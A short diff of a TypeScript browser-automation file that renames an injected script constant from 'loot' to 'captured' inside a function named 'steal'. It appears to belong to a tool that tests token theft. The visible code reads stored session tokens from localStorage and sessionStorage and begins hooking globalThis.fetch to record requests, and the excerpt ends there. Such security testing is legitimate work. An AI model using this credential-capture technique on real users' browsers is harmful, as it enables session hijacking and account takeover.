@@ -46,7 +46,7 @@ export async function openSignedIn(
 export async function steal(stage: Stage, browser: Browser, tab: Tab): Promise<readonly Artefact[]> {
   const { protocol } = stage.target;
   const renewal = protocol.steps.refresh && stage.request('refresh');
-  await tab.run(loot, {
+  await tab.run(captured, {
     collector: browser.collector,
     renewal: renewal && { path: renewal.path, method: renewal.method },
   });
@@ -63,7 +63,7 @@ const application = `
   const init = () => JSON.parse(inMemory ?? localStorage.getItem('application') ?? sessionStorage.getItem('application'));
   globalThis.application = { me: () => fetch(given.path, init()) };`;
 
-const loot = `
+const captured = `
   const genuine = globalThis.fetch;
   const hooked = [];
   globalThis.fetch = (to, init) => {
